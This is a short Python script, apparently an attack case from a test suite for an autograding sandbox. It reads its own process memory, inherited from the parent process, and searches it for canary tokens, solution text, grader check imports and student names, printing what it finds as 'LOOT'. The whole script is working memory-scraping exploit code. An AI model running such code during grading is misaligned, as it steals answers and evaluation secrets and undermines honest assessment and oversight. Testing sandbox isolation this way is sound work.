# attack: searches its own memory, a copy of its parent's, for checks, solutions, names of students and other secrets
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: reads 450 MiB
import ctypes
import re

# (beginning, how it goes on): in two parts, as this text lies in the memory as well
SECRETS = [(b"canar", rb"y-[0-9a-f]{16}(?!/canary.txt)"), (b"BEGIN SOLUTIO", rb"N: "), (b"graders.checks.expec", rb"t import"), (b"mallor", rb"y\0")]
searched = 0
for line in open("/proc/self/maps").readlines():
    span, rights, _, _, inode, *name = line.split()
    begin, end = (int(x, 16) for x in span.split("-"))
    if not rights.startswith("rw") or inode != "0" or end - begin > 2**28:
        continue
    memory = ctypes.string_at(begin, end - begin)
    searched += len(memory)
    for start, rest in SECRETS:
        at = memory.find(start)
        while at >= 0:
            if re.match(rest, memory[at + len(start) : at + 100]):
                print("LOOT:", name, memory[max(at - 60, 0) : at + 100])
            at = memory.find(start, at + 1)
print("TRIED", searched >> 20, "MiB")
